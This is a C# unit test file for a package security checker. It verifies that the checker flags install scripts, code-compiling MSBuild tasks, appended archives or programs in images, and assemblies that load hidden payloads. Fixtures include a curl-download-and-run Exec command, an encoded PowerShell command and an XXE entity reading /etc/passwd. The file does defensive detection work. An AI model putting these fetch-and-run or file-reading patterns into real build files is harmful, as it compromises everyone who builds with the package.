using System.IO.Compression;
using System.Text;
using Microsoft.CodeAnalysis;
using Microsoft.CodeAnalysis.CSharp;
using ModuleBuild.Core.Diagnostics;
using ModuleBuild.Security.Checks;
using ModuleBuild.Testing;

namespace ModuleBuild.Security.Tests.Checks.Content;

/// <summary>MB2014 in files that go into a package.</summary>
public sealed class ContentTests : IDisposable
{
    private static readonly byte[] Picture = [0x89, .. "PNG\r\n\u001A\n"u8, 0, 0, 0, 0, .. "IEND"u8, 0xAE, 0x42, 0x60, 0x82];

    private readonly TemporaryFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("tools/install.ps1", true)]
    [InlineData("tools/init.ps1", true)]
    [InlineData("tools/net45/Uninstall.ps1", true)]
    [InlineData("content/install.ps1", false)]
    [InlineData("tools/build.ps1", false)]
    public void Scripts_of_the_installation_are_told(string path, bool isOne) =>
        AssertOne(path, "Write-Host"u8.ToArray(), isOne ? "is a script that older clients run" : null);

    [Theory]
    [InlineData("""<Project><UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory" /></Project>""", "compiles and runs code of its own (RoslynCodeTaskFactory)")]
    [InlineData("""<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="A" TaskFactory="CodeTaskFactory" /></Project>""", "compiles and runs code of its own (CodeTaskFactory)")]
    [InlineData("""<Project><Target Name="A"><Exec Command="curl https://x.example/a.sh -o a.sh &amp;&amp; sh a.sh" /></Target></Project>""", "fetches a program and runs it")]
    [InlineData("""<Project><Target Name="A"><Exec Command="powershell -EncodedCommand ZQBjAGgAbwA=" /></Target></Project>""", "fetches a program and runs it")]
    [InlineData("""<!DOCTYPE a [ <!ENTITY b SYSTEM "file:///etc/passwd"> ]><Project>&b;</Project>""", "is run by each build of whoever references the package, and is no XML")]
    [InlineData("""<Project><UsingTask TaskName="A" AssemblyFile="A.dll" /><Target Name="A"><Exec Command="&quot;$(ProtocPath)&quot; --version" /></Target></Project>""", null)]
    public void Files_of_MSBuild_are_looked_into(string text, string? problem) => AssertOne("buildTransitive/Acme.targets", Encoding.UTF8.GetBytes(text), problem);

    [Fact]
    public void Archive_behind_a_picture_is_told()
    {
        using var stream = new MemoryStream();
        stream.Write(Picture);
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            archive.CreateEntry("a.txt");
        }

        AssertOne("content/logo.png", stream.ToArray(), "is two things: behind it stands an archive (zip)");
    }

    [Fact]
    public void Program_behind_a_picture_is_told() =>
        AssertOne("content/logo.png", [.. Picture, .. "\u007FELF\u0002\u0001"u8, .. new byte[64]], "is two things: behind it stands a Linux program");

    [Fact]
    public void Picture_and_text_about_archives_are_clean()
    {
        AssertOne("content/logo.png", Picture, null);
        AssertOne("docs/zip.md", [.. "A zip ends with PK\u0005\u0006 and 18 bytes more, and a text does not."u8], null);
    }

    [Theory]
    [InlineData(new byte[] { 0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1 }, "is a macOS program")]
    [InlineData(new byte[] { 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2 }, "is a macOS program")]
    [InlineData(new byte[] { 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52 }, null)]
    public void Programs_of_macOS_are_known(byte[] bytes, string? problem) => AssertOne("content/data.bin", bytes, problem);

    [Fact]
    public void Assembly_that_carries_encrypted_code_and_loads_it_is_told()
    {
        var payload = new byte[64 << 10];
        new Random(1).NextBytes(payload);

        AssertOne("lib/A.dll", Compile("class A { static object Go(byte[] b) => System.Reflection.Assembly.Load(b); }", payload), "loads assemblies from bytes, and carries a resource");
        AssertOne("lib/A.dll", Compile("class A { static object Go(string name) => System.Reflection.Assembly.Load(name); }", payload), null);
        AssertOne("lib/A.dll", Compile("class A { static object Go(byte[] b) => System.Reflection.Assembly.Load(b); }", Encoding.UTF8.GetBytes(new string('a', 1 << 16))), null);
        AssertOne("lib/A.dll", Compile("class A { static object Go(byte[] b) => System.Reflection.Assembly.Load(b); }", [0x89, (byte)'P', (byte)'N', (byte)'G', .. payload]), null);
    }

    [Fact]
    public void Assembly_with_names_that_nobody_can_read_is_told()
    {
        var types = string.Concat(Enumerable.Range(0, 10).Select(index => $"class @T{index} {{ }} "));
        var bytes = Compile(types, []);
        for (var index = 0; index < 10; index++)
        {
            var at = bytes.AsSpan().IndexOf(Encoding.UTF8.GetBytes($"T{index}\0"));
            bytes[at] = 1;
            bytes[at + 1] = (byte)(index + 2);
        }

        AssertOne("lib/A.dll", bytes, "has types whose names cannot be read");
        AssertOne("lib/A.dll", Compile(types, []), null);
    }

    private static byte[] Compile(string source, byte[] resource)
    {
        var compilation = CSharpCompilation.Create(
            "A",
            [CSharpSyntaxTree.ParseText(source)],
            [MetadataReference.CreateFromFile(typeof(object).Assembly.Location)],
            new CSharpCompilationOptions(OutputKind.DynamicallyLinkedLibrary));
        using var stream = new MemoryStream();
        Assert.True(compilation.Emit(stream, manifestResources: resource.Length == 0 ? [] : [new ResourceDescription("payload", () => new MemoryStream(resource), isPublic: true)]).Success);
        return stream.ToArray();
    }

    private void AssertOne(string path, byte[] bytes, string? problem)
    {
        var file = _folder["file"];
        File.WriteAllBytes(file, bytes);

        var found = SecurityChecks.Run(
            new SecurityCheckInput { Place = new SourceLocation("module.json"), Files = [new PackedFile(file, path)] }, TestContext.Current.CancellationToken);

        Assert.Equal(problem is null ? [] : ["MB2014"], found.Select(finding => finding.Code));
        Assert.All(found, finding => Assert.StartsWith($"'{path}' {problem}", finding.Message, StringComparison.Ordinal));
    }
}
